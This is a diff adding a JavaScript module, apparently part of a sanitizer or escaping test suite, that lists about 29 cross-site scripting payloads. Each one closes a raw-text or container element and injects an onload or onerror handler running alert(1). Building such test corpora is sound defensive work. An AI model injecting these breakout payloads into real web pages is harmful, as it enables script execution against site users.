@@ -1,0 +1,38 @@
+import { asMarkup } from '../careless.mjs';
+
+/** @type {import('../techniques.mjs').Technique} */
+export default {
+  name: 'ends of raw text elements',
+  control: asMarkup,
+  payloads: [
+    '<title></title><svg onload=alert(1)>',
+    '</title><script>alert(1)</script>',
+    '</TITLE\n><img src=x onerror=alert(1)>',
+    '<textarea></textarea><svg onload=alert(1)>',
+    '</textarea><svg onload=alert(1)>',
+    '</textarea/x><svg onload=alert(1)>',
+    '<style></style><svg onload=alert(1)>',
+    '</style><svg onload=alert(1)>',
+    '</style \t><svg onload=alert(1)>',
+    '<xmp></xmp><svg onload=alert(1)>',
+    '</xmp><svg onload=alert(1)>',
+    '<iframe></iframe><svg onload=alert(1)>',
+    '</iframe><svg onload=alert(1)>',
+    '</noscript><svg onload=alert(1)>',
+    '</noembed></noframes><svg onload=alert(1)>',
+    '</template><svg onload=alert(1)>',
+    '</template></klipp-card><svg onload=alert(1)>',
+    '</select></option><svg onload=alert(1)>',
+    '</svg></math><svg onload=alert(1)>',
+    '<plaintext><svg onload=alert(1)>',
+    '</script><svg onload=alert(1)><script>',
+    '</code></pre><svg onload=alert(1)>',
+    '</head><body onload=alert(1)>',
+    '</body></html><svg onload=alert(1)>',
+    '</p></li></ul></div></section></form><svg onload=alert(1)>',
+    '</a></h2></header></article><svg onload=alert(1)>',
+    '</slot></aside><svg onload=alert(1)>',
+    '</td></tr></tbody></table><svg onload=alert(1)>',
+    '<p\u0000></p\u0000><svg onload=alert(1)>',
+  ],
+};
